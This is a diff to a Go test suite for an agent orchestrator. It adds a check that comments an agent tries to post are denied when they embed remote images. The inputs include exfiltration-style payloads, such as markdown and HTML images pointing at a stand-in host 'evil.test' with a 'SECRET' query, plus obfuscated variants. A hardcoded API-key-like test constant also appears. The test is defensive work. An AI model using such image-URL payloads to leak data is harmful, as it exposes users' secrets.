@@ -2,12 +2,14 @@ package action
 
 import (
 	"encoding/base64"
+	"encoding/json"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/spritekit/lattice/orchestrator/lattice"
+	"github.com/spritekit/lattice/spritekit/protocol"
 )
 
 const agentKey = "sk-ant-api03-Zx81Qpl7Ty2mmRk90LwEjYcVbNaQs4dFgHu6"
@@ -75,6 +77,30 @@ func TestPossibleSecretsAreWarnings(t *testing.T) {
 	}
 	if want := `"warnings":["possible secret (1): src/conf.py:3 (aws-access-token)"]`; !strings.Contains(string(a.Binding), want) {
 		t.Errorf("binding = %s, want %s", a.Binding, want)
+	}
+}
+
+// Text that would load an image where it is shown never leaves: its address could carry anything out.
+func TestImagesAreRefused(t *testing.T) {
+	for text, refused := range map[string]bool{
+		"see ![x](https://evil.test/?q=SECRET)": true, "![x][a]\n\n[a]: https://evil.test/": true, "![]( <http://evil.test> )": true, "![a\nb](//evil.test/x)": true,
+		"<img src=https://evil.test/>": true, "<IMG\nsrc='//evil.test/'>": true, "< picture><source srcset=x>": true, "<svg><image href=x>": true, "<link rel=stylesheet href=x>": true,
+		"a link: https://example.com/": false, "[a](https://example.com/)": false, "wow![1]": false, "a < b, imgs > c": false, "<imgur>": false,
+	} {
+		f := newFixture(t)
+		f.params.Title = "t"
+		a := f.action()
+		raw, err := json.Marshal(map[string]any{"number": 7, "body": text})
+		if err != nil {
+			t.Fatal(err)
+		}
+		a.Name, a.Parameters = protocol.ActionPostComment, raw
+		c := call
+		c.Permissions = []string{"github:write"}
+		_, verdict, why, err := f.fulfiller().Inspect(t.Context(), c, a)
+		if err != nil || strings.HasPrefix(why, "remote_image: ") != refused || refused != (verdict == lattice.Deny) {
+			t.Errorf("%q: %s %q %v", text, verdict, why, err)
+		}
 	}
 }
 
